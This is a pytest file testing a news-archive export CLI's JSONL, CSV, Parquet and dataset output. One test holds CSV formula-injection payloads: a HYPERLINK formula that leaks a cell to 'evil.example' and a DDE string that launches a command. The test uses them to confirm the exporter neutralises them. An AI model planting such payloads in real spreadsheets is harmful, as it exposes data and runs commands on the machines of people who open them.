"""``antara export`` end to end: a real crawl of the sample site, exported through the real CLI, read back."""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import select
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from archive import Archive, schema
from archive.export import columns, neutralise
from crawler import __version__
from tests.conftest import ROOT, RunningSite, crawl_sample, run_cli

REGIONS = ("kalteng", "kalsel", "nasional")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SUMMARY = re.compile(r"^Exported [\d,]+ articles \(.+\) to .+ in \d+\.\ds$")


@pytest.fixture(scope="module")
def archive_db(sample_site: RunningSite, tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("export") / "archive.db"
    result = crawl_sample(sample_site, db, "--region", ",".join(REGIONS), "--max-pages", "2", "--follow-depth", "1")
    assert result.returncode == 0, result.stderr[-3000:]
    return db


def truth(db: Path, where: str = "", params: tuple[Any, ...] = ()) -> dict[str, dict[str, Any]]:
    """Articles rows by URL, with ``tag_names`` from article_tags and ``baca_juga`` from links."""
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        rows = {r["url"]: dict(r) for r in conn.execute(f"SELECT a.* FROM articles a {where}", params)}
        for row in rows.values():
            row["tag_names"] = set()
            row["baca_juga"] = []
        for url, name in conn.execute(
            "SELECT at.article_url, t.name FROM article_tags at JOIN tags t ON t.id = at.tag_id"
        ):
            if url in rows:
                rows[url]["tag_names"].add(name)
        for url, target in conn.execute(
            "SELECT source_url, target_url FROM links WHERE kind = 'baca_juga' ORDER BY source_url, position"
        ):
            if url in rows:
                rows[url]["baca_juga"].append(target)
        return rows
    finally:
        conn.close()


def export(db: Path, fmt: str, output: Path | str, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli("export", "--db", str(db), "--format", fmt, "--output", str(output), *args, timeout=120)


def exported_ok(result: subprocess.CompletedProcess[str]) -> None:
    assert result.returncode == 0, result.stderr[-3000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and SUMMARY.match(lines[0]), result.stderr  # no progress bar off a terminal


@pytest.fixture(scope="module")
def outputs(archive_db: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("out")
    paths = {fmt: folder / f"all.{fmt}" for fmt in ("jsonl", "csv", "parquet")}
    paths["dataset"] = folder / "dataset"
    for fmt, path in paths.items():
        exported_ok(export(archive_db, fmt, path))
    return paths


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def urls_of(path: Path, fmt: str) -> set[str]:
    if fmt == "jsonl":
        return {r["url"] for r in read_jsonl(path)}
    if fmt == "csv":
        return {r["url"] for r in read_csv(path)}
    return set(pq.read_table(path, columns=["url"]).column("url").to_pylist())


def expected_cell(value: Any) -> str:
    """What a CSV cell must hold for an archive value, written independently of the exporter."""
    if value is None:
        return ""
    text = "; ".join(value) if isinstance(value, list) else str(value)
    return "'" + text if isinstance(value, (str, list)) and text.startswith(FORMULA_START) else text


@pytest.mark.slow
def test_jsonl_round_trip_equals_the_archive(archive_db: Path, outputs: dict[str, Path]) -> None:
    records = read_jsonl(outputs["jsonl"])
    expected = truth(archive_db)
    assert len(records) == len(expected) > 50
    assert [(r["site"], r["article_id"]) for r in records] == sorted((r["site"], r["article_id"]) for r in records)
    assert sum(bool(r["baca_juga"]) for r in records) > 10
    for record in records:
        row = expected[record["url"]]
        assert list(record) == [c.name for c in columns()]
        for name in schema.ARTICLE_COLUMNS:
            if name == "tags":
                assert record["tags"] == json.loads(row["tags"])
                assert set(record["tags"]) == row["tag_names"]
            else:
                assert record[name] == row[name], (record["url"], name)
        assert record["baca_juga"] == row["baca_juga"]
    raw = outputs["jsonl"].read_bytes()
    assert b"\\u" not in raw and raw.endswith(b"\n")  # UTF-8 as is, one object per line


@pytest.mark.slow
def test_csv_round_trip_equals_the_archive(archive_db: Path, outputs: dict[str, Path]) -> None:
    rows = read_csv(outputs["csv"])
    expected = truth(archive_db)
    assert len(rows) == len(expected)
    raw = outputs["csv"].read_bytes()
    assert raw.startswith(b"url,site,region,article_id,") and b"\r\n" in raw
    for cells in rows:
        row = expected[cells["url"]]
        assert list(cells) == [c.name for c in columns()]
        for name in schema.ARTICLE_COLUMNS:
            value = json.loads(row["tags"]) if name == "tags" else row[name]
            assert cells[name] == expected_cell(value), (cells["url"], name)
        assert cells["baca_juga"] == expected_cell(row["baca_juga"])
        assert "\n\n" in cells["body"]  # paragraphs survive RFC 4180 quoting


@pytest.mark.slow
def test_parquet_round_trip_and_schema(archive_db: Path, outputs: dict[str, Path]) -> None:
    table = pq.read_table(outputs["parquet"])
    types = dict(zip(table.schema.names, table.schema.types, strict=True))
    for name in ("published_at", "first_seen_at", "last_seen_at"):
        assert types[name] == pa.timestamp("us", tz="UTC")
    for name in ("article_id", "word_count", "last_run_id"):
        assert types[name] == pa.int64()
    assert types["tags"] == pa.list_(pa.string()) and types["baca_juga"] == pa.list_(pa.string())
    assert types["published_at_local"] == pa.string() and types["title"] == pa.string()
    expected = truth(archive_db)
    records = table.to_pylist()
    assert len(records) == len(expected)
    for record in records:
        row = expected[record["url"]]
        for name in schema.ARTICLE_COLUMNS:
            if name == "tags":
                assert record["tags"] == json.loads(row["tags"]) and set(record["tags"]) == row["tag_names"]
            elif pa.types.is_timestamp(types[name]):
                assert types[name] == pa.timestamp("us", tz="UTC")
                if row[name] is None:
                    assert record[name] is None, (record["url"], name)
                else:
                    assert record[name] == datetime.fromisoformat(row[name]), (record["url"], name)
                    assert record[name].utcoffset() == timezone.utc.utcoffset(None)
            else:
                assert record[name] == row[name], (record["url"], name)
        assert record["published_at_local"] == row["published_at"]
        assert record["baca_juga"] == row["baca_juga"]


@pytest.mark.slow
def test_dataset_folder_checksums_and_card(archive_db: Path, outputs: dict[str, Path]) -> None:
    folder = outputs["dataset"]
    assert sorted(p.name for p in folder.iterdir()) == ["README.md", "SHA256SUMS", "articles.parquet"]
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True, timeout=60)
    assert check.returncode == 0, check.stdout + check.stderr
    assert check.stdout.count(": OK") == 2
    expected = truth(archive_db)
    assert pq.read_table(folder / "articles.parquet").num_rows == len(expected)
    card = (folder / "README.md").read_text(encoding="utf-8")
    names = {"kalteng": "Kalimantan Tengah", "kalsel": "Kalimantan Selatan", "nasional": "Nasional"}
    for slug, name in names.items():
        count = sum(r["region"] == slug for r in expected.values())
        assert count and f"| `{slug}` | {name} | {count:,} |" in card
    days = sorted(r["published_at"][:10] for r in expected.values())
    assert f"{days[0]} to {days[-1]}" in card
    for needle in (
        "© ANTARA",
        "research",
        "timestamp[us, tz=UTC]",
        "list<string>",
        "published_at_local",
        "all regions",
    ):
        assert needle in card
    assert "| 1 |" in card and f"Crawler version(s): {__version__}." in card  # the crawl run, its version


@pytest.mark.slow
def test_dataset_force_replaces_the_files(archive_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "ds"
    exported_ok(export(archive_db, "dataset", folder, "--region", "kalteng"))
    (folder / "NOTES.txt").write_text("mine")
    refused = export(archive_db, "dataset", folder, "--region", "kalsel")
    assert refused.returncode == 2 and "--force" in refused.stderr
    exported_ok(export(archive_db, "dataset", folder, "--region", "kalsel", "--force"))
    assert set(pq.read_table(folder / "articles.parquet", columns=["region"]).column("region").to_pylist()) == {
        "kalsel"
    }
    assert (folder / "NOTES.txt").read_text() == "mine"
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, timeout=60)
    assert check.returncode == 0


def local_days(db: Path) -> list[str]:
    return sorted({r["published_at"][:10] for r in truth(db).values()})


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_filters_select_the_rows_sql_selects(archive_db: Path, tmp_path: Path, fmt: str) -> None:
    days = local_days(archive_db)
    assert len(days) >= 3
    since, until = days[1], days[-2]
    title = truth(archive_db, "WHERE region = 'kalsel'").popitem()[1]["title"]
    word = next(w for w in title.split() if w.isalpha() and len(w) > 4)
    cases: list[tuple[list[str], str, tuple[Any, ...]]] = [
        (["--region", "kalteng", "--region", "nasional"], "WHERE region IN ('kalteng', 'nasional')", ()),
        (
            ["--region", "kalsel,kalteng", "--since", since],
            "WHERE region IN ('kalsel', 'kalteng') AND substr(published_at, 1, 10) >= ?",
            (since,),
        ),
        (["--since", since, "--until", until], "WHERE substr(published_at, 1, 10) BETWEEN ? AND ?", (since, until)),
        (["--until", since], "WHERE substr(published_at, 1, 10) <= ?", (since,)),
        (
            ["--query", word],
            "WHERE a.rowid IN (SELECT rowid FROM articles_fts WHERE articles_fts MATCH ?)",
            (word,),
        ),
        (
            ["--query", f"{word} OR banjir", "--region", "kalsel"],
            "WHERE region = 'kalsel' AND a.rowid IN (SELECT rowid FROM articles_fts WHERE articles_fts MATCH ?)",
            (f"{word} OR banjir",),
        ),
    ]
    total = len(truth(archive_db))
    for n, (args, where, params) in enumerate(cases):
        out = tmp_path / f"{n}.{fmt}"
        exported_ok(export(archive_db, fmt, out, *args))
        expected = set(truth(archive_db, where, params))
        assert 0 < len(expected) < total, args
        assert urls_of(out, fmt) == expected, args


@pytest.mark.slow
def test_nothing_matched_still_writes_a_typed_file(archive_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "none.parquet"
    result = export(archive_db, "parquet", out, "--query", "zzzyyyxxx")
    exported_ok(result)
    assert "Exported 0 articles (nothing matched)" in result.stderr
    table = pq.read_table(out)
    assert table.num_rows == 0 and table.schema.field("published_at").type == pa.timestamp("us", tz="UTC")


@pytest.mark.slow
def test_stdout_for_jsonl_and_csv(archive_db: Path) -> None:
    result = run_cli("export", "--db", str(archive_db), "--format", "jsonl", "--region", "kalteng", "--output", "-")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == len(truth(archive_db, "WHERE region = 'kalteng'"))
    assert all(json.loads(line)["region"] == "kalteng" for line in lines)
    assert "to stdout" in result.stderr
    result = run_cli("export", "--db", str(archive_db), "--format", "csv", "--output", "-")
    assert result.returncode == 0 and result.stdout.startswith("url,site,region,")


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?q="&A1,"Klik")',
    "summary": "+1+1",
    "reporter": "-2+3",
    "editor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "\tUmum",
    "dateline": "\rPalangka Raya",
    "image_caption": "Biasa saja = tidak dinetralkan",
}


@pytest.mark.slow
def test_formula_looking_cells_are_neutralised(archive_db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    with sqlite3.connect(archive_db) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    url = "https://kalteng.antaranews.com/berita/999999/rumus"
    with Archive(copy) as archive:
        archive.upsert_article(
            {
                "url": url,
                "site": "kalteng.antaranews.com",
                "region": "kalteng",
                "article_id": 999999,
                "body": "Palangka Raya (ANTARA) - Isi.",
                "published_at": "2026-11-27T10:00:00+07:00",
                "published_at_raw": "Jumat, 27 November 2026 10:00 WIB",
                "tags": ["=cmd", "aman"],
                "word_count": 5,
                "content_hash": "x",
                "template": "old",
                "links": [{"url": "https://kalteng.antaranews.com/berita/1/x", "anchor_text": "x"}],
                **FORMULAS,
            }
        )
    out = tmp_path / "rumus.csv"
    exported_ok(export(copy, "csv", out, "--region", "kalteng"))
    cells = next(r for r in read_csv(out) if r["url"] == url)
    for name, value in FORMULAS.items():
        assert cells[name] == (value if name == "image_caption" else "'" + value), name
    assert cells["tags"] == "'=cmd; aman"
    jsonl = tmp_path / "rumus.jsonl"
    exported_ok(export(copy, "jsonl", jsonl, "--region", "kalteng"))
    record = next(r for r in read_jsonl(jsonl) if r["url"] == url)
    assert record["title"] == FORMULAS["title"] and record["tags"] == ["=cmd", "aman"]  # JSON keeps data as is


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5 derajat", "'-5 derajat"),
        ("@antaranews", "'@antaranews"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Banjir di =Sampit", "Banjir di =Sampit"),
        ("'=sudah", "'=sudah"),
        ("", ""),
    ],
)
def test_neutralise(value: str, safe: str) -> None:
    assert neutralise(value) == safe


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--format", "jsonl", "--region", "atlantis"], "unknown region 'atlantis'"),
        (["--format", "jsonl", "--since", "2026-02-30"], "--since '2026-02-30' is not a real date"),
        (["--format", "jsonl", "--until", "kemarin"], "--until 'kemarin' is not a date"),
        (["--format", "csv", "--since", "2026-11-05", "--until", "2026-11-01"], "is before --since"),
        (["--format", "jsonl", "--query", '"tanpa penutup'], "invalid full-text query"),
        (["--format", "jsonl", "--query", "AND"], "invalid full-text query"),
        (["--format", "parquet", "--output", "-"], "stdout"),
        (["--format", "xml"], "'--format'"),
        (["--format", "jsonl", "--db", "{tmp}/nope.db"], "does not exist"),
        (["--format", "jsonl", "--db", "{tmp}"], "is a directory"),
        (["--format", "dataset", "--output", "{tmp}"], "already exists"),
        (["--format", "csv", "--output", "{tmp}/no/such/dir/x.csv"], "does not exist"),
    ],
)
def test_bad_arguments_give_one_line_and_exit_2(archive_db: Path, tmp_path: Path, args: list[str], needle: str) -> None:
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    defaults = {"--db": str(archive_db), "--output": str(tmp_path / "out.jsonl")}
    for option, value in defaults.items():
        if option not in args:
            args += [option, value]
    result = run_cli("export", *args, timeout=60)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("antara: error: "), result.stderr
    assert needle in lines[0]
    assert not (tmp_path / "out.jsonl").exists()


@pytest.mark.slow
def test_progress_bar_only_on_a_terminal(archive_db: Path, tmp_path: Path) -> None:
    env = dict(os.environ)
    env.pop("SCRAPY_SETTINGS_MODULE", None)
    master, slave = pty.openpty()
    command = [sys.executable, "-m", "crawler", "export", "--db", str(archive_db), "--format", "csv"]
    proc = subprocess.Popen(
        [*command, "--output", str(tmp_path / "tty.csv")],
        cwd=ROOT,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=slave,
    )
    os.close(slave)
    seen = b""
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 60)
            if not ready:
                break
            try:
                chunk = os.read(master, 4096)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            seen += chunk
    finally:
        os.close(master)
        proc.wait(timeout=60)
    text = seen.decode("utf-8", "replace")
    assert proc.returncode == 0, text
    assert "%|" in text and " articles" in text  # tqdm's bar
    assert "Exported" in text
